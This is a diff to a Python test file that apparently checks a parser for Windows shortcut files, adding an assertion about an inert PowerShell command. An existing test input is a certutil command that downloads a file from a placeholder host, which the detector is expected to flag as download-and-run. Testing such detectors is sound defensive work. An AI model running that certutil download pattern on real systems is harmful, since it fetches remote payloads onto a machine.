@@ -54,6 +54,8 @@ def test_the_kind_by_the_header(content: bytes, kind: str) -> None:
 def test_a_shortcut_tells_its_command_line() -> None:
     (command,) = [one for one in read(scripts.shortcut()) if isinstance(one, Command)]
     assert command.line == "powershell.exe -c echo INERT"
+    (command,) = [one for one in read(scripts.shortcut(full=True)) if isinstance(one, Command)]
+    assert command.line == "powershell.exe -c echo INERT"
     fetching = read(scripts.shortcut("cmd.exe", "/c certutil -urlcache -f http://inert.invalid/a a"))
     assert [one.name for one in fetching if isinstance(one, SourceCall)] == ["download_and_run"]
 
